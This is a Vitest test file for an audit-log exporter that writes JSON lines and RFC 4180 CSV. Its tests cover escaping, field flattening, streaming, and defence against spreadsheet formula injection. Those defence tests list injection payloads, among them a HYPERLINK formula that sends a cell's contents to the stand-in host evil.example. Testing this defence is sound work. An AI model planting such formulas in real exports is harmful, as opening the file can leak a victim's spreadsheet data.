import { describe, expect, it } from 'vitest';
import type { AuditEvent } from './AuditEvent.js';
import { AUDIT_CSV_COLUMNS, type AuditExportFormat, exportAudit } from './exportAudit.js';

const BASE: AuditEvent = {
  id: 'ae_1',
  type: 'verification.blocked',
  at: Date.UTC(2026, 0, 2, 3, 4, 5, 6),
  tenantId: 'acme',
  verificationId: 'vf_AbCdEfGhIjKlMnOpQrStUvWxYz',
  purpose: 'login',
  channel: 'sms',
  destination: { kind: 'phone', hash: 'h4sh', masked: '+1********00', country: 'US' },
  context: {
    ip: '203.0.113.9',
    asn: 64496,
    userAgent: 'Mozilla/5.0',
    deviceId: 'dev-1',
    consent: 'sms-terms-v3 accepted 2026-01-02T03:00:00Z',
  },
  result: 'rate_limited',
  reasons: ['velocity:ip', 'velocity:asn'],
  latencyMs: 42,
  data: { attempt: 2, fallback: true },
};

async function* from<T>(items: readonly T[]): AsyncGenerator<T> {
  for (const item of items) yield item;
}

async function exportText(
  events: readonly AuditEvent[],
  format: AuditExportFormat,
): Promise<string> {
  let text = '';
  for await (const chunk of exportAudit(from(events), format)) text += chunk;
  return text;
}

/** A strict RFC 4180 parser: CRLF records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const char = text[i] as string;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (char === '"') {
        quoted = false;
        i += 1;
        continue;
      }
      field += char;
      i += 1;
      continue;
    }
    if (char === '"' && field === '') {
      quoted = true;
    } else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else if (char === '"' || char === '\r' || char === '\n') {
      throw new Error(`unquoted ${JSON.stringify(char)} at offset ${i}`);
    } else {
      field += char;
    }
    i += 1;
  }
  if (quoted || field !== '' || row.length > 0) throw new Error('CSV does not end with CRLF');
  return rows;
}

/** The parsed CSV cell of `column` for a single exported event. */
async function csvCellOf(
  event: AuditEvent,
  column: (typeof AUDIT_CSV_COLUMNS)[number],
): Promise<string> {
  const rows = parseCsv(await exportText([event], 'csv'));
  return rows[1]?.[AUDIT_CSV_COLUMNS.indexOf(column)] as string;
}

describe('exportAudit as JSON lines', () => {
  it('writes one JSON object per line that parses back to the event', async () => {
    const second: AuditEvent = {
      id: 'ae_2',
      type: 'verification.approved',
      at: 2,
      tenantId: 'acme',
    };
    const text = await exportText([BASE, second], 'jsonl');
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.slice(0, -1).split('\n');
    expect(lines).toHaveLength(2);
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual([BASE, second]);
  });

  it('keeps newlines inside values escaped on their line', async () => {
    const text = await exportText([{ ...BASE, context: { userAgent: 'a\nb\r\nc' } }], 'jsonl');
    expect(text.split('\n')).toHaveLength(2);
    expect((JSON.parse(text) as AuditEvent).context?.userAgent).toBe('a\nb\r\nc');
  });

  it('writes nothing for no events', async () => {
    expect(await exportText([], 'jsonl')).toBe('');
  });
});

describe('exportAudit as CSV', () => {
  it('starts with the AUDIT_CSV_COLUMNS header and ends records with CRLF', async () => {
    const text = await exportText([], 'csv');
    expect(text).toBe(`${AUDIT_CSV_COLUMNS.join(',')}\r\n`);
    expect(AUDIT_CSV_COLUMNS[0]).toBe('id');
  });

  it('writes one record per event with a cell for every column', async () => {
    const rows = parseCsv(await exportText([BASE, { ...BASE, id: 'ae_2' }], 'csv'));
    expect(rows).toHaveLength(3);
    expect(rows[0]).toEqual([...AUDIT_CSV_COLUMNS]);
    for (const row of rows.slice(1)) expect(row).toHaveLength(AUDIT_CSV_COLUMNS.length);
  });

  it('flattens nested fields, formats the time as ISO 8601 and joins reasons with ;', async () => {
    const [header, row] = parseCsv(await exportText([BASE], 'csv'));
    const record = Object.fromEntries(
      (header ?? []).map((column, index) => [column, row?.[index]]),
    );
    expect(record).toEqual({
      id: 'ae_1',
      at: '2026-01-02T03:04:05.006Z',
      type: 'verification.blocked',
      tenantId: 'acme',
      verificationId: 'vf_AbCdEfGhIjKlMnOpQrStUvWxYz',
      purpose: 'login',
      channel: 'sms',
      result: 'rate_limited',
      reasons: 'velocity:ip;velocity:asn',
      latencyMs: '42',
      'destination.kind': 'phone',
      // A leading + is neutralised like any formula character.
      'destination.masked': "'+1********00",
      'destination.hash': 'h4sh',
      'destination.country': 'US',
      'context.ip': '203.0.113.9',
      'context.asn': '64496',
      'context.userAgent': 'Mozilla/5.0',
      'context.deviceId': 'dev-1',
      'context.consent': 'sms-terms-v3 accepted 2026-01-02T03:00:00Z',
      data: '{"attempt":2,"fallback":true}',
    });
  });

  it('leaves cells of absent fields empty', async () => {
    const minimal: AuditEvent = {
      id: 'ae_min',
      type: 'tenant.configured',
      at: 0,
      tenantId: 'acme',
    };
    const row = parseCsv(await exportText([minimal], 'csv'))[1] ?? [];
    expect(row.slice(0, 4)).toEqual([
      'ae_min',
      '1970-01-01T00:00:00.000Z',
      'tenant.configured',
      'acme',
    ]);
    expect(row.slice(4).every((cell) => cell === '')).toBe(true);
  });

  it('quotes cells holding commas, quotes and newlines as RFC 4180 says', async () => {
    const userAgent = 'Mozilla/5.0 (X11, Linux) "Quoted"\r\nsecond line\nthird';
    const text = await exportText([{ ...BASE, context: { userAgent } }], 'csv');
    expect(text).toContain('"Mozilla/5.0 (X11, Linux) ""Quoted""\r\nsecond line\nthird"');
    expect(await csvCellOf({ ...BASE, context: { userAgent } }, 'context.userAgent')).toBe(
      userAgent,
    );
  });

  it('does not quote plain cells', async () => {
    const text = await exportText([BASE], 'csv');
    expect(
      text.split('\r\n')[1]?.startsWith('ae_1,2026-01-02T03:04:05.006Z,verification.blocked,'),
    ).toBe(true);
  });

  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '+1',
    '-1+1',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
  ])('neutralises the formula %j with a leading single quote', async (userAgent) => {
    expect(await csvCellOf({ ...BASE, context: { userAgent } }, 'context.userAgent')).toBe(
      `'${userAgent}`,
    );
  });

  it('neutralises formulas in every text column, not only the user agent', async () => {
    const hostile = {
      ...BASE,
      purpose: '=1+1',
      context: { deviceId: '@cmd' },
      reasons: ['=bad', 'ok'],
    };
    expect(await csvCellOf(hostile, 'purpose')).toBe("'=1+1");
    expect(await csvCellOf(hostile, 'context.deviceId')).toBe("'@cmd");
    expect(await csvCellOf(hostile, 'reasons')).toBe("'=bad;ok");
  });

  it('leaves cells that merely contain formula characters alone', async () => {
    expect(
      await csvCellOf({ ...BASE, context: { userAgent: 'a=b+c@d' } }, 'context.userAgent'),
    ).toBe('a=b+c@d');
  });
});

describe('exportAudit streaming', () => {
  const TOTAL = 50_000;

  function producer(): { events: AsyncGenerator<AuditEvent>; pulled: () => number } {
    let pulled = 0;
    async function* events(): AsyncGenerator<AuditEvent> {
      for (let index = 0; index < TOTAL; index += 1) {
        pulled += 1;
        yield {
          id: `ae_${index}`,
          type: 'verification.checked',
          at: index,
          tenantId: 'acme',
          result: 'failed',
        };
      }
    }
    return { events: events(), pulled: () => pulled };
  }

  it('yields JSON lines for 50,000 events one chunk per event, pulling the source lazily', async () => {
    const { events, pulled } = producer();
    let pulledAtFirstChunk: number | undefined;
    let lines = 0;
    let chunks = 0;
    let lastId = '';
    for await (const chunk of exportAudit(events, 'jsonl')) {
      pulledAtFirstChunk ??= pulled();
      chunks += 1;
      lines += chunk.split('\n').length - 1;
      lastId = (JSON.parse(chunk) as AuditEvent).id;
    }
    expect(pulledAtFirstChunk).toBe(1);
    expect(chunks).toBe(TOTAL);
    expect(lines).toBe(TOTAL);
    expect(lastId).toBe(`ae_${TOTAL - 1}`);
    expect(pulled()).toBe(TOTAL);
  });

  it('yields the CSV header before reading any event, then one record per event', async () => {
    const { events, pulled } = producer();
    const pulledAt: number[] = [];
    let records = 0;
    for await (const chunk of exportAudit(events, 'csv')) {
      if (pulledAt.length < 2) pulledAt.push(pulled());
      records += chunk.split('\r\n').length - 1;
    }
    expect(pulledAt).toEqual([0, 1]);
    expect(records).toBe(TOTAL + 1);
  });

  it('stops pulling the source when the consumer stops early', async () => {
    const { events, pulled } = producer();
    let seen = 0;
    for await (const _chunk of exportAudit(events, 'jsonl')) {
      seen += 1;
      if (seen === 10) break;
    }
    expect(pulled()).toBe(10);
  });
});
